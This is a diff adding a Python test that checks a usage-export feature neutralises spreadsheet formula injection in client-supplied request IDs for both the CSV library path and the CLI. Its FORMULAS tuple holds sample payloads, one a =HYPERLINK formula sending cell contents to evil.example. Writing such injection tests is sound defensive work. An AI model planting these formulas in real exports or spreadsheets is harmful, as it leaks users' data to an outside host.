@@ -123,3 +123,31 @@ def test_export_carries_the_request_id_the_client_sent(metered):  # noqa: F811
     assert {r["request_id"]: r["correlation_id"] for r in rows} == expected
     ces = map(json.loads, export("cloudevents").splitlines())
     assert {c["id"]: c["data"]["correlation_id"] for c in ces} == expected
+
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)")
+
+
+def test_csv_export_neutralises_formula_cells(metered, capsys):  # noqa: F811
+    """A client-chosen x-request-id that a spreadsheet would run as a formula reaches the
+    CSV export (library and CLI) as text; token counts stay numbers; JSON keeps it raw."""
+    from tests.platform.fixtures import run_cli
+
+    m = metered
+    name, key = m.tenant("csvinj", rpm=10_000, tpm=10**7)
+    client = m.client(key)
+    ids = {client.completions.create(model=m.model, prompt="Hi", max_tokens=2,
+                                     extra_headers={"x-request-id": sent}).id: sent for sent in FORMULAS}
+    m.settle()
+    start, end = export_range()
+    jsonl = b"".join(export_usage(m.db, start, end, fmt="jsonl", tenant=name)).splitlines()
+    assert {e["request_id"]: e["correlation_id"] for e in map(json.loads, jsonl)} == ids
+
+    code, cli_csv, _ = run_cli(capsys, "usage", "export", "--from", start.isoformat(), "--to", end.isoformat(),
+                               "--tenant", name, "--database-url", m.settings.database_url)
+    assert code == 0
+    for text in (b"".join(export_usage(m.db, start, end, fmt="csv", tenant=name)).decode(), cli_csv):
+        rows = list(csv.DictReader(io.StringIO(text)))
+        assert {r["request_id"]: r["correlation_id"] for r in rows} == {i: "'" + s for i, s in ids.items()}
+        assert all(r["prompt_tokens"].isdigit() and r["total_tokens"].isdigit() for r in rows)
+        assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for c in r.values())
